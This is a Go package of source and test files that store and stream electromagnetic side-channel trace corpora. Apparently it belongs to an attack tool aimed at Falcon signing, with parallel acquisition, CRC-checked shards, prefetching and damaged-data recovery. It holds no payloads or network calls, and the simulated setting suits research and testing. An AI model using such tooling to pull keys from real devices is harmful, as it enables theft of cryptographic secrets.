	ErrBadFormat = errors.New("tracestore: malformed trace data")
	// ErrChecksum reports a failed integrity check: the data decoded but
	// does not match its recorded CRC.
	ErrChecksum = errors.New("tracestore: checksum mismatch")
)

// castagnoli is the CRC-32C table shared by writer and reader.
var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// observationSize returns the packed byte size of one observation of
// degree n.
func observationSize(n int) int {
	half := n / 2
	return half*16 + half*emleak.SamplesPerCoeff*8
}

// EstimateCorpusBytes upper-bounds the on-disk footprint of a corpus of
// count observations at degree n, including shard/chunk framing. Quota
// admission (internal/campaign) charges this bound at submission time and
// trues it up against the real directory once the campaign settles.
func EstimateCorpusBytes(n, count int) int64 {
	payload := int64(count) * int64(observationSize(n))
	// Framing overhead: a shard header/trailer, chunk headers and the
	// footer index stay far below 1% + 4 KiB for every layout the writer
	// produces.
	return payload + payload/100 + 4096
}

// validDegree reports whether n is a plausible campaign degree.
func validDegree(n int) bool { return n >= 2 && n <= maxDegree && n%2 == 0 }

// checkShape verifies an observation against the corpus degree.
func checkShape(n int, o emleak.Observation) error {
	half := n / 2
	if len(o.CFFT) != half || len(o.Trace.Samples) != half*emleak.SamplesPerCoeff {
		return fmt.Errorf("%w: observation shape (%d coefficients, %d samples) inconsistent with degree %d",
			ErrBadFormat, len(o.CFFT), len(o.Trace.Samples), n)
	}
	return nil
}

// appendObservation packs one observation onto dst with direct buffer
// stores (no reflection — this is the acquisition hot path).
func appendObservation(dst []byte, o emleak.Observation) []byte {
	need := len(o.CFFT)*16 + len(o.Trace.Samples)*8
	base := len(dst)
	dst = append(dst, make([]byte, need)...)
	b := dst[base:]
	for _, z := range o.CFFT {
		binary.LittleEndian.PutUint64(b, uint64(z.Re))
		binary.LittleEndian.PutUint64(b[8:], uint64(z.Im))
		b = b[16:]
	}
	for _, s := range o.Trace.Samples {
		binary.LittleEndian.PutUint64(b, math.Float64bits(s))
		b = b[8:]
	}
	return dst
}

// decodeObservation unpacks one observation of degree n from buf, which
// must hold at least observationSize(n) bytes.
func decodeObservation(buf []byte, n int) emleak.Observation {
	half := n / 2
	cf := make([]fft.Cplx, half)
	for k := range cf {
		cf[k] = fft.Cplx{
			Re: fpr.FPR(binary.LittleEndian.Uint64(buf)),
			Im: fpr.FPR(binary.LittleEndian.Uint64(buf[8:])),
		}
		buf = buf[16:]
	}
	samples := make([]float64, half*emleak.SamplesPerCoeff)
	for j := range samples {
		samples[j] = math.Float64frombits(binary.LittleEndian.Uint64(buf))
		buf = buf[8:]
	}
	return emleak.Observation{CFFT: cf, Trace: emleak.Trace{Samples: samples}}
}
