package tracestore

import (
	"context"
	"fmt"
	"runtime"
	"sync"
	"sync/atomic"

	"falcondown/internal/emleak"
)

// Appender is the write side of a campaign as Acquire sees it. *Writer is
// the production implementation; fault-injection wrappers
// (internal/faultinject) interpose on it to exercise the append-failure
// paths.
type Appender interface {
	Append(o emleak.Observation) error
}

// AcquireOptions tunes the parallel campaign runner.
type AcquireOptions struct {
	// Workers is the number of acquisition goroutines; <= 0 uses
	// GOMAXPROCS. The written corpus is byte-identical for every worker
	// count: observation i depends only on (seed, i) and the victim's
	// configuration, and the collector commits observations in index
	// order.
	Workers int
	// Start is the index of the first observation to generate. A resumed
	// campaign (ResumeWriter) sets it to the count already durable on
	// disk; the schedule of the remaining observations is unchanged, so
	// the completed corpus is byte-identical to an uninterrupted run.
	Start int
	// Progress, when set, is called after each observation is committed,
	// with the number done so far (including Start) and the total.
	Progress func(done, total int)
}

// Acquire runs a known-plaintext campaign of count measurements against
// dev and streams observations [opts.Start, count) into w. The device is
// cloned per worker, every observation's randomness is derived from
// (seed, index) via emleak.ObservationAt, and a reorder window commits
// results strictly in index order — so -workers is purely a throughput
// knob, never a reproducibility one. The caller owns w and must finalize
// it (Writer.Close, or Writer.Interrupt after cancellation).
//
// Cancelling ctx stops acquisition promptly: workers drain, the already
// committed prefix stays intact in w, and the returned error wraps
// ctx.Err(). No goroutines outlive the call.
func Acquire(ctx context.Context, dev *emleak.Device, seed uint64, count int, w Appender, opts AcquireOptions) error {
	if count < 0 {
		return fmt.Errorf("tracestore: negative campaign size %d", count)
	}
	if opts.Start < 0 {
		return fmt.Errorf("tracestore: negative resume index %d", opts.Start)
	}
	if ctx == nil {
		ctx = context.Background()
	}
	todo := count - opts.Start
	if todo <= 0 {
		return nil
	}
	workers := opts.Workers
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > todo {
		workers = todo
	}

	type item struct {
		idx int
		obs emleak.Observation
		err error
	}
	// The reorder window bounds how far ahead of the writer any worker
	// may run, capping buffered observations at window size.
	window := workers * 4
	sem := make(chan struct{}, window)
	results := make(chan item, window)
	var next atomic.Int64
	var failed atomic.Bool

	var wg sync.WaitGroup
	for wk := 0; wk < workers; wk++ {
		wg.Add(1)
		go func(wk int) {
			defer wg.Done()
			local := dev.Clone(0) // noise reseeded per observation
			for !failed.Load() {
				i := opts.Start + int(next.Add(1)) - 1
				if i >= count {
					return
				}
				select {
				case sem <- struct{}{}:
				case <-ctx.Done():
					return
				}
				o, err := emleak.ObservationAt(local, seed, uint64(i))
				results <- item{idx: i, obs: o, err: err}
			}
		}(wk)
	}
	go func() {
		wg.Wait()
		close(results)
	}()

	// Collector: commit observations in index order through a pending map
	// bounded by the reorder window.
	pending := make(map[int]emleak.Observation, window)
	want := opts.Start
	var firstErr error
	for it := range results {
		if firstErr == nil && ctx.Err() != nil {
			firstErr = fmt.Errorf("tracestore: acquisition interrupted at %d of %d observations: %w",
				want, count, ctx.Err())
			failed.Store(true)
		}
		if firstErr != nil {
			<-sem
			continue // drain
		}
		if it.err != nil {
			firstErr = fmt.Errorf("tracestore: observation %d: %w", it.idx, it.err)
			failed.Store(true)
			<-sem
			continue
		}
		pending[it.idx] = it.obs
		for {
			o, ok := pending[want]
			if !ok {
				break
			}
			delete(pending, want)
			if err := w.Append(o); err != nil {
				firstErr = err
				failed.Store(true)
				break
			}
			want++
			<-sem
			if opts.Progress != nil {
				opts.Progress(want, count)
			}
		}
	}
	if firstErr != nil {
		return firstErr
	}
	if err := ctx.Err(); err != nil {
		return fmt.Errorf("tracestore: acquisition interrupted at %d of %d observations: %w", want, count, err)
	}
	if want != count {
		return fmt.Errorf("tracestore: collector committed %d of %d observations", want-opts.Start, todo)
	}
	return nil
}
