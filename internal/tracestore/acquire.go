package tracestore

import (
	"fmt"
	"runtime"
	"sync"
	"sync/atomic"

	"falcondown/internal/emleak"
)

// AcquireOptions tunes the parallel campaign runner.
type AcquireOptions struct {
	// Workers is the number of acquisition goroutines; <= 0 uses
	// GOMAXPROCS. The written corpus is byte-identical for every worker
	// count: observation i depends only on (seed, i) and the victim's
	// configuration, and the collector commits observations in index
	// order.
	Workers int
	// Progress, when set, is called after each observation is committed,
	// with the number done so far and the total.
	Progress func(done, total int)
}

// Acquire runs a known-plaintext campaign of count measurements against
// dev and streams it into w. The device is cloned per worker, every
// observation's randomness is derived from (seed, index) via
// emleak.ObservationAt, and a reorder window commits results strictly in
// index order — so -workers is purely a throughput knob, never a
// reproducibility one. The caller owns w and must Close it.
func Acquire(dev *emleak.Device, seed uint64, count int, w *Writer, opts AcquireOptions) error {
	if count < 0 {
		return fmt.Errorf("tracestore: negative campaign size %d", count)
	}
	if count == 0 {
		return nil
	}
	workers := opts.Workers
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > count {
		workers = count
	}

	type item struct {
		idx int
		obs emleak.Observation
		err error
	}
	// The reorder window bounds how far ahead of the writer any worker
	// may run, capping buffered observations at window size.
	window := workers * 4
	sem := make(chan struct{}, window)
	results := make(chan item, window)
	var next atomic.Int64
	var failed atomic.Bool

	var wg sync.WaitGroup
	for wk := 0; wk < workers; wk++ {
		wg.Add(1)
		go func(wk int) {
			defer wg.Done()
			local := dev.Clone(0) // noise reseeded per observation
			for !failed.Load() {
				i := int(next.Add(1)) - 1
				if i >= count {
					return
				}
				sem <- struct{}{}
				o, err := emleak.ObservationAt(local, seed, uint64(i))
				results <- item{idx: i, obs: o, err: err}
			}
		}(wk)
	}
	go func() {
		wg.Wait()
		close(results)
	}()

	// Collector: commit observations in index order through a pending map
	// bounded by the reorder window.
	pending := make(map[int]emleak.Observation, window)
	want := 0
	var firstErr error
	for it := range results {
		if firstErr != nil {
			<-sem
			continue // drain
		}
		if it.err != nil {
			firstErr = fmt.Errorf("tracestore: observation %d: %w", it.idx, it.err)
			failed.Store(true)
			<-sem
			continue
		}
		pending[it.idx] = it.obs
		for {
			o, ok := pending[want]
			if !ok {
				break
			}
			delete(pending, want)
			if err := w.Append(o); err != nil {
				firstErr = err
				failed.Store(true)
				break
			}
			want++
			<-sem
			if opts.Progress != nil {
				opts.Progress(want, count)
			}
		}
	}
	if firstErr != nil {
		return firstErr
	}
	if want != count {
		return fmt.Errorf("tracestore: collector committed %d of %d observations", want, count)
	}
	return nil
}
