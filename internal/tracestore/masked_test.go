package tracestore

import (
	"io"
	"testing"

	"falcondown/internal/emleak"
)

func maskedTestObs(n int) []emleak.Observation {
	obs := make([]emleak.Observation, n)
	for i := range obs {
		obs[i] = emleak.Observation{Trace: emleak.Trace{Samples: []float64{float64(i)}}}
	}
	return obs
}

func TestMaskedSource(t *testing.T) {
	src := NewSliceSource(8, maskedTestObs(10))
	m := NewMaskedSource(src, []int{3, 7, 3, -1, 99})
	if m.Count() != 8 {
		t.Fatalf("Count = %d, want 8", m.Count())
	}
	if m.Skipped() != 2 {
		t.Fatalf("Skipped = %d, want 2", m.Skipped())
	}
	if m.N() != 8 {
		t.Fatalf("N = %d, want 8", m.N())
	}
	// Two passes must yield the identical subset in the identical order.
	for pass := 0; pass < 2; pass++ {
		it, err := m.Iterate()
		if err != nil {
			t.Fatal(err)
		}
		want := []float64{0, 1, 2, 4, 5, 6, 8, 9}
		for _, w := range want {
			o, err := it.Next()
			if err != nil {
				t.Fatalf("pass %d: Next: %v", pass, err)
			}
			if o.Trace.Samples[0] != w {
				t.Fatalf("pass %d: got observation %v, want %v", pass, o.Trace.Samples[0], w)
			}
		}
		if _, err := it.Next(); err != io.EOF {
			t.Fatalf("pass %d: want EOF, got %v", pass, err)
		}
		it.Close()
	}
}

func TestMaskedSourceEmptyMask(t *testing.T) {
	src := NewSliceSource(8, maskedTestObs(3))
	m := NewMaskedSource(src, nil)
	if m.Count() != 3 || m.Skipped() != 0 {
		t.Fatalf("Count=%d Skipped=%d, want 3/0", m.Count(), m.Skipped())
	}
	all, err := ReadAll(m)
	if err != nil || len(all) != 3 {
		t.Fatalf("ReadAll: %d obs, err %v", len(all), err)
	}
}

func TestCorpusHealthSuspect(t *testing.T) {
	h := &CorpusHealth{Shards: 1, Healthy: 100}
	if h.Degraded() {
		t.Fatal("clean health reported degraded")
	}
	h.Suspect = append(h.Suspect, ObservationFault{Index: 7, Reason: "saturated"})
	if !h.Degraded() {
		t.Fatal("suspect observations must mark the corpus degraded")
	}
	s := h.String()
	if s == "" || !containsStr(s, "suspect") {
		t.Fatalf("String() = %q, want mention of suspects", s)
	}
	if fs := h.Suspect[0].String(); !containsStr(fs, "saturated") {
		t.Fatalf("fault String() = %q", fs)
	}
}

func containsStr(s, sub string) bool {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return true
		}
	}
	return false
}
