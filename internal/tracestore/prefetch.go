package tracestore

import (
	"errors"
	"io"
	"time"

	"falcondown/internal/emleak"
)

// Read-ahead batching. The parallel attack engine consumes a campaign as
// fixed-size observation batches (shards): a dedicated reader goroutine
// decodes tracestore chunks sequentially and stays a bounded number of
// batches ahead of the accumulator workers, so decode latency (disk reads,
// CRC verification, robust-preprocessing transforms) overlaps with the
// hypothesis×sample correlation math instead of serializing with it.
//
// The batches preserve corpus order exactly — batch k holds observations
// [k·batchObs, (k+1)·batchObs) — which is what lets the consumer fold
// per-batch partial statistics in a fixed order and stay bit-identical to
// a sequential pass over the same reduction tree.

// BatchIterator yields consecutive fixed-size observation batches from a
// Source, decoded ahead of the consumer by a bounded prefetch pipeline.
// It is single-consumer; Close releases the reader goroutine.
type BatchIterator struct {
	ch   chan prefetched
	quit chan struct{}
	done bool
}

// prefetched is one decoded batch or the pass-ending error.
type prefetched struct {
	batch []emleak.Observation
	err   error // io.EOF after the final batch
}

// IterateBatches starts a prefetching pass over src. batchObs is the
// batch size (the final batch may be shorter); depth bounds how many
// decoded batches may be in flight ahead of the consumer. A Next that
// fails with ErrTransient is retried with the given bounded backoff
// schedule (nil disables retries), matching the attack sweep contract
// that a transient failure has not consumed an observation.
func IterateBatches(src Source, batchObs, depth int, backoff []time.Duration) (*BatchIterator, error) {
	if batchObs <= 0 {
		batchObs = 1
	}
	if depth < 1 {
		depth = 1
	}
	it, err := src.Iterate()
	if err != nil {
		return nil, err
	}
	b := &BatchIterator{
		ch:   make(chan prefetched, depth),
		quit: make(chan struct{}),
	}
	go b.read(it, batchObs, backoff, b.quit)
	return b, nil
}

// read is the prefetch pipeline: decode, batch, send. quit is captured by
// value so a concurrent Close cannot race the field.
func (b *BatchIterator) read(it Iterator, batchObs int, backoff []time.Duration, quit <-chan struct{}) {
	defer it.Close()
	batch := make([]emleak.Observation, 0, batchObs)
	attempts := 0
	emit := func(p prefetched) bool {
		select {
		case b.ch <- p:
			return true
		case <-quit:
			return false
		}
	}
	for {
		o, err := it.Next()
		if err == io.EOF {
			if len(batch) > 0 && !emit(prefetched{batch: batch}) {
				return
			}
			emit(prefetched{err: io.EOF})
			return
		}
		if err != nil {
			if errors.Is(err, ErrTransient) && attempts < len(backoff) {
				time.Sleep(backoff[attempts])
				attempts++
				continue
			}
			if len(batch) > 0 && !emit(prefetched{batch: batch}) {
				return
			}
			emit(prefetched{err: err})
			return
		}
		attempts = 0
		batch = append(batch, o)
		if len(batch) == batchObs {
			if !emit(prefetched{batch: batch}) {
				return
			}
			batch = make([]emleak.Observation, 0, batchObs)
		}
	}
}

// Next returns the next batch in corpus order, or io.EOF after the last
// one. Once an error (including io.EOF) is returned, the iterator is
// exhausted.
func (b *BatchIterator) Next() ([]emleak.Observation, error) {
	if b.done {
		return nil, io.EOF
	}
	p := <-b.ch
	if p.err != nil {
		b.done = true
		return nil, p.err
	}
	return p.batch, nil
}

// Close stops the reader goroutine and discards undelivered batches. Safe
// to call at any point, including after Next returned an error.
func (b *BatchIterator) Close() error {
	if b.quit != nil {
		close(b.quit)
		b.quit = nil
	}
	b.done = true
	return nil
}
