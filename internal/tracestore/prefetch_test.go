package tracestore

import (
	"errors"
	"io"
	"testing"
	"time"

	"falcondown/internal/emleak"
)

func TestPrefetchBatchesPreserveOrder(t *testing.T) {
	obs := testCampaign(t, 11)
	src := NewSliceSource(8, obs)
	it, err := IterateBatches(src, 4, 2, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer it.Close()
	var got []emleak.Observation
	sizes := []int{}
	for {
		b, err := it.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		sizes = append(sizes, len(b))
		got = append(got, b...)
	}
	if len(sizes) != 3 || sizes[0] != 4 || sizes[1] != 4 || sizes[2] != 3 {
		t.Fatalf("batch sizes %v, want [4 4 3]", sizes)
	}
	if len(got) != len(obs) {
		t.Fatalf("got %d observations, want %d", len(got), len(obs))
	}
	for i := range obs {
		if len(got[i].CFFT) != len(obs[i].CFFT) || got[i].CFFT[0] != obs[i].CFFT[0] ||
			got[i].Trace.Samples[0] != obs[i].Trace.Samples[0] {
			t.Fatalf("observation %d out of order", i)
		}
	}
	// Exhausted iterators stay exhausted.
	if _, err := it.Next(); err != io.EOF {
		t.Fatalf("post-EOF Next: %v", err)
	}
}

func TestPrefetchEarlyCloseReleasesReader(t *testing.T) {
	obs := testCampaign(t, 64)
	it, err := IterateBatches(NewSliceSource(8, obs), 1, 1, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := it.Next(); err != nil {
		t.Fatal(err)
	}
	// With depth 1 and 64 pending observations the reader is blocked on
	// its channel; Close must unblock it (the race detector plus goroutine
	// accounting in -race CI would flag a leak).
	if err := it.Close(); err != nil {
		t.Fatal(err)
	}
	if err := it.Close(); err != nil { // double Close is safe
		t.Fatal(err)
	}
	if _, err := it.Next(); err != io.EOF {
		t.Fatalf("Next after Close: %v", err)
	}
}

// transientBatchSource fails the first Next of every pass with a
// transient error.
type transientBatchSource struct {
	inner Source
	fails int
}

func (s *transientBatchSource) N() int     { return s.inner.N() }
func (s *transientBatchSource) Count() int { return s.inner.Count() }
func (s *transientBatchSource) Iterate() (Iterator, error) {
	it, err := s.inner.Iterate()
	if err != nil {
		return nil, err
	}
	return &transientBatchIterator{inner: it, src: s}, nil
}

type transientBatchIterator struct {
	inner Iterator
	src   *transientBatchSource
	n     int
}

func (it *transientBatchIterator) Next() (emleak.Observation, error) {
	it.n++
	if it.n == 1 {
		it.src.fails++
		return emleak.Observation{}, ErrTransient
	}
	return it.inner.Next()
}

func (it *transientBatchIterator) Close() error { return it.inner.Close() }

func TestPrefetchRetriesTransient(t *testing.T) {
	obs := testCampaign(t, 6)
	src := &transientBatchSource{inner: NewSliceSource(8, obs)}

	// Without a backoff schedule the transient error is terminal.
	it, err := IterateBatches(src, 4, 2, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := it.Next(); !errors.Is(err, ErrTransient) {
		t.Fatalf("unretried transient: %v", err)
	}
	it.Close()

	// With one, the full corpus arrives.
	it, err = IterateBatches(src, 4, 2, []time.Duration{0})
	if err != nil {
		t.Fatal(err)
	}
	defer it.Close()
	total := 0
	for {
		b, err := it.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		total += len(b)
	}
	if total != len(obs) {
		t.Fatalf("retried pass yielded %d observations, want %d", total, len(obs))
	}
	if src.fails != 2 {
		t.Fatalf("transient injected %d times, want 2 (one per pass)", src.fails)
	}
}
