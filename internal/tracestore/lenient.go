package tracestore

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"os"
	"time"
)

// Degraded-mode reads. A multi-gigabyte campaign with one flipped bit
// should not abort a multi-pass attack: OpenLenient quarantines damaged
// chunks instead of failing, reports them in a CorpusHealth, and pins the
// quarantine list at open time — every Iterate over the corpus then
// sweeps the identical observation subset, which the multi-pass attack
// requires (accumulator jobs assume each pass sees the same traces in the
// same order).

// ErrTransient marks an I/O failure that is worth retrying (injected by
// fault wrappers, or plausible on networked storage). Consumers such as
// core's corpus sweeps retry Next after a bounded backoff when
// errors.Is(err, ErrTransient); the lenient reader performs the same
// bounded retries internally before declaring a chunk dead.
var ErrTransient = errors.New("tracestore: transient I/O error")

// lenientBackoff is the bounded retry schedule for chunk re-reads; a
// variable so fault-injection tests can tighten it.
var lenientBackoff = []time.Duration{2 * time.Millisecond, 10 * time.Millisecond, 50 * time.Millisecond}

// ChunkFault records one quarantined region of a corpus.
type ChunkFault struct {
	Shard        string
	Chunk        int   // chunk index within the shard; -1 for a v1 tail
	Offset       int64 // byte offset of the damaged region
	Observations int   // observations lost with it
	Reason       string
}

// ObservationFault records one observation the acquisition-time quality
// gate flagged as suspect: the bytes are in the corpus (supervised
// acquisition writes every observation so resume offsets stay stable),
// but the attack should consider masking it out.
type ObservationFault struct {
	Index  int    // observation index within the corpus
	Reason string // detector verdict ("saturated", "energy outlier", "desynced")
}

// String formats one suspect observation for CLI output.
func (f ObservationFault) String() string {
	return fmt.Sprintf("observation %d: %s", f.Index, f.Reason)
}

// CorpusHealth reports the outcome of a lenient open: which shards needed
// their footer reconstructed in memory, which chunks are quarantined, and
// how many observations survive. The quarantine list is pinned — every
// pass over the corpus skips exactly these chunks. Supervised acquisition
// reuses the type to carry its quality-gate verdicts in Suspect.
type CorpusHealth struct {
	Shards        int
	Reconstructed []string // shards opened without a valid trailer (in-memory salvage)
	Quarantined   []ChunkFault
	Suspect       []ObservationFault // written but flagged by the online quality gate
	Healthy       int                // observations readable
	Lost          int                // observations quarantined
}

// Degraded reports whether any data was lost, reconstructed, or flagged
// suspect.
func (h *CorpusHealth) Degraded() bool {
	return len(h.Quarantined) > 0 || len(h.Reconstructed) > 0 || len(h.Suspect) > 0
}

// String summarizes the health report for CLI output.
func (h *CorpusHealth) String() string {
	if !h.Degraded() {
		return fmt.Sprintf("corpus healthy: %d observations in %d shard(s)", h.Healthy, h.Shards)
	}
	s := fmt.Sprintf("corpus degraded: %d observations readable, %d lost in %d quarantined chunk(s), %d shard footer(s) reconstructed",
		h.Healthy, h.Lost, len(h.Quarantined), len(h.Reconstructed))
	if len(h.Suspect) > 0 {
		s += fmt.Sprintf(", %d observation(s) flagged suspect by the quality gate", len(h.Suspect))
	}
	return s
}

// OpenLenient resolves path exactly like Open but tolerates damage: a
// shard with a torn footer is indexed by scanning its chunks, a chunk
// whose payload fails its CRC is quarantined rather than fatal, and a
// truncated v1 blob is cut back to whole observations. Each suspect chunk
// is re-read with bounded backoff before being declared dead, so a
// transient I/O hiccup does not quarantine good data. The returned corpus
// iterates only healthy chunks, identically on every pass.
//
// Damage that leaves nothing readable (bad header, unreadable file) is
// still an error wrapping ErrBadFormat/ErrChecksum.
func OpenLenient(path string) (*Corpus, *CorpusHealth, error) {
	paths, err := resolvePaths(path)
	if err != nil {
		return nil, nil, err
	}
	return OpenFilesLenient(paths)
}

// OpenFilesLenient is OpenLenient over an explicit shard list.
func OpenFilesLenient(paths []string) (*Corpus, *CorpusHealth, error) {
	if len(paths) == 0 {
		return nil, nil, fmt.Errorf("%w: empty shard list", ErrBadFormat)
	}
	c := &Corpus{lenient: true}
	h := &CorpusHealth{Shards: len(paths)}
	for _, p := range paths {
		s, faults, reconstructed, err := openShardLenient(p)
		if err != nil {
			return nil, nil, err
		}
		if c.n == 0 {
			c.n = s.n
		} else if c.n != s.n {
			return nil, nil, fmt.Errorf("%w: shard %s has degree %d, corpus has %d",
				ErrBadFormat, p, s.n, c.n)
		}
		if reconstructed {
			h.Reconstructed = append(h.Reconstructed, p)
		}
		for _, f := range faults {
			h.Lost += f.Observations
		}
		h.Quarantined = append(h.Quarantined, faults...)
		c.count += s.count
		c.shards = append(c.shards, s)
	}
	h.Healthy = c.count
	return c, h, nil
}

// openShardLenient validates one shard, degrading instead of failing
// where the format allows it.
func openShardLenient(path string) (shardInfo, []ChunkFault, bool, error) {
	s, err := openShard(path)
	switch {
	case err == nil && s.version == version1:
		return s, nil, false, nil
	case err == nil:
		// Structurally sound; verify every chunk payload up front so the
		// quarantine list is pinned before the first attack pass.
		faults, err := verifyChunks(path, &s)
		return s, faults, false, err
	case !errors.Is(err, ErrBadFormat) && !errors.Is(err, ErrChecksum):
		return shardInfo{}, nil, false, err
	}

	// Strict open failed. Try a v1 truncation repair, then a v2 footer
	// reconstruction.
	f, ferr := os.Open(path)
	if ferr != nil {
		return shardInfo{}, nil, false, fmt.Errorf("tracestore: %w", ferr)
	}
	defer f.Close()
	st, ferr := f.Stat()
	if ferr != nil {
		return shardInfo{}, nil, false, fmt.Errorf("tracestore: shard %s: %w", path, ferr)
	}
	var hdr [headerSize]byte
	if _, ferr := f.ReadAt(hdr[:], 0); ferr != nil {
		return shardInfo{}, nil, false, fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
	switch string(hdr[:4]) {
	case magicV1:
		n := int(binary.LittleEndian.Uint32(hdr[8:]))
		declared := int(int32(binary.LittleEndian.Uint32(hdr[12:])))
		if binary.LittleEndian.Uint32(hdr[4:]) != version1 || !validDegree(n) || declared < 0 || declared > maxCount {
			return shardInfo{}, nil, false, fmt.Errorf("tracestore: shard %s: %w", path, err)
		}
		// Keep the whole observations actually present (a crash-truncated
		// capture); anything past the declared count is trailing garbage
		// strict mode already rejects, so cap at declared.
		whole := int((st.Size() - headerSize) / int64(observationSize(n)))
		if whole > declared {
			whole = declared
		}
		fault := ChunkFault{
			Shard:        path,
			Chunk:        -1,
			Offset:       headerSize + int64(whole)*int64(observationSize(n)),
			Observations: declared - whole,
			Reason:       fmt.Sprintf("v1 blob holds %d of %d declared observations (truncated)", whole, declared),
		}
		s := shardInfo{path: path, version: version1, n: n, count: whole}
		if fault.Observations == 0 {
			// Trailing garbage, not truncation: quarantine zero observations
			// but still report the anomaly.
			fault.Reason = fmt.Sprintf("v1 blob carries %d trailing bytes beyond its declared payload",
				st.Size()-fault.Offset)
		}
		return s, []ChunkFault{fault}, true, nil
	case magicV2:
		n, chunks, quarantined, faults, serr := scanChunksLenient(f, st.Size(), path)
		if serr != nil {
			return shardInfo{}, nil, false, fmt.Errorf("tracestore: shard %s: %w", path, serr)
		}
		s := shardInfo{path: path, version: version2, n: n, chunks: chunks, quarantined: quarantined}
		for i, q := range quarantined {
			if !q {
				s.count += int(chunks[i].count)
			}
		}
		return s, faults, true, nil
	default:
		return shardInfo{}, nil, false, fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
}

// verifyChunks reads every chunk of a structurally valid v2 shard,
// quarantining the ones whose payload cannot be read back CRC-clean after
// bounded retries.
func verifyChunks(path string, s *shardInfo) ([]ChunkFault, error) {
	if s.version != version2 || len(s.chunks) == 0 {
		return nil, nil
	}
	f, err := os.Open(path)
	if err != nil {
		return nil, fmt.Errorf("tracestore: %w", err)
	}
	defer f.Close()
	var faults []ChunkFault
	s.quarantined = make([]bool, len(s.chunks))
	var buf []byte
	for i, meta := range s.chunks {
		if cap(buf) < int(meta.payloadLen) {
			buf = make([]byte, meta.payloadLen)
		}
		buf = buf[:meta.payloadLen]
		if err := readChunkRetry(f, buf, meta); err != nil {
			s.quarantined[i] = true
			s.count -= int(meta.count)
			faults = append(faults, ChunkFault{
				Shard:        path,
				Chunk:        i,
				Offset:       meta.offset,
				Observations: int(meta.count),
				Reason:       err.Error(),
			})
		}
	}
	return faults, nil
}

// readChunkRetry reads one chunk payload into buf (len == payloadLen) and
// verifies its header and CRC, retrying with bounded backoff so a
// transient I/O fault does not condemn good data.
func readChunkRetry(f *os.File, buf []byte, meta chunkMeta) error {
	var last error
	for attempt := 0; ; attempt++ {
		last = readChunkAt(f, buf, meta)
		if last == nil {
			return nil
		}
		if attempt >= len(lenientBackoff) {
			return last
		}
		time.Sleep(lenientBackoff[attempt])
	}
}

func readChunkAt(f *os.File, buf []byte, meta chunkMeta) error {
	var hdr [chunkHdrSize]byte
	if _, err := f.ReadAt(hdr[:], meta.offset); err != nil {
		return fmt.Errorf("%w: chunk header unreadable at offset %d: %v", ErrBadFormat, meta.offset, err)
	}
	count := binary.LittleEndian.Uint32(hdr[0:])
	payloadLen := binary.LittleEndian.Uint32(hdr[4:])
	crc := binary.LittleEndian.Uint32(hdr[8:])
	if count != meta.count || payloadLen != meta.payloadLen {
		return fmt.Errorf("%w: chunk header (count=%d len=%d) disagrees with index (count=%d len=%d)",
			ErrBadFormat, count, payloadLen, meta.count, meta.payloadLen)
	}
	if _, err := f.ReadAt(buf, meta.offset+chunkHdrSize); err != nil {
		return fmt.Errorf("%w: chunk payload unreadable at offset %d: %v", ErrBadFormat, meta.offset, err)
	}
	if got := crc32.Checksum(buf, castagnoli); got != crc {
		mCRCRejects.Inc()
		return fmt.Errorf("%w: chunk at offset %d (crc %08x, want %08x)", ErrChecksum, meta.offset, got, crc)
	}
	return nil
}

// scanChunksLenient walks a trailer-less v2 shard like scanChunks but
// keeps going past CRC-damaged chunks (quarantining them) as long as the
// chunk *framing* stays self-consistent; it stops at the first offset
// that cannot be a chunk header (torn tail or index debris).
func scanChunksLenient(f *os.File, size int64, path string) (n int, chunks []chunkMeta, quarantined []bool, faults []ChunkFault, err error) {
	var hdr [headerSize]byte
	if size < headerSize {
		return 0, nil, nil, nil, fmt.Errorf("%w: %d bytes is shorter than a shard header", ErrBadFormat, size)
	}
	if _, rerr := f.ReadAt(hdr[:], 0); rerr != nil {
		return 0, nil, nil, nil, fmt.Errorf("%w: unreadable header", ErrBadFormat)
	}
	if v := binary.LittleEndian.Uint32(hdr[4:]); v != version2 {
		return 0, nil, nil, nil, fmt.Errorf("%w: v2 shard with version %d", ErrBadFormat, v)
	}
	n = int(binary.LittleEndian.Uint32(hdr[8:]))
	if !validDegree(n) {
		return 0, nil, nil, nil, fmt.Errorf("%w: implausible degree %d", ErrBadFormat, n)
	}
	obsSize := int64(observationSize(n))
	offset := int64(headerSize)
	var payload []byte
	for {
		var ch [chunkHdrSize]byte
		if offset+chunkHdrSize > size {
			break
		}
		if _, rerr := f.ReadAt(ch[:], offset); rerr != nil {
			break
		}
		count := int64(binary.LittleEndian.Uint32(ch[0:]))
		payloadLen := int64(binary.LittleEndian.Uint32(ch[4:]))
		crc := binary.LittleEndian.Uint32(ch[8:])
		if count <= 0 || count > maxCount || payloadLen != count*obsSize ||
			offset+chunkHdrSize+payloadLen > size {
			break
		}
		meta := chunkMeta{offset: offset, count: uint32(count), payloadLen: uint32(payloadLen)}
		if int64(cap(payload)) < payloadLen {
			payload = make([]byte, payloadLen)
		}
		payload = payload[:payloadLen]
		bad := false
		if _, rerr := f.ReadAt(payload, offset+chunkHdrSize); rerr != nil {
			bad = true
		} else if crc32.Checksum(payload, castagnoli) != crc {
			bad = true
		}
		chunks = append(chunks, meta)
		quarantined = append(quarantined, bad)
		if bad {
			mCRCRejects.Inc()
			faults = append(faults, ChunkFault{
				Shard:        path,
				Chunk:        len(chunks) - 1,
				Offset:       offset,
				Observations: int(count),
				Reason:       "payload CRC mismatch in footer-less shard (scan recovery)",
			})
		}
		offset += chunkHdrSize + payloadLen
	}
	if offset < size {
		faults = append(faults, ChunkFault{
			Shard:  path,
			Chunk:  len(chunks),
			Offset: offset,
			Reason: fmt.Sprintf("%d trailing bytes are not chunk-framed (torn write); observations lost with them are unknown", size-offset),
		})
	}
	return n, chunks, quarantined, faults, nil
}
