package tracestore

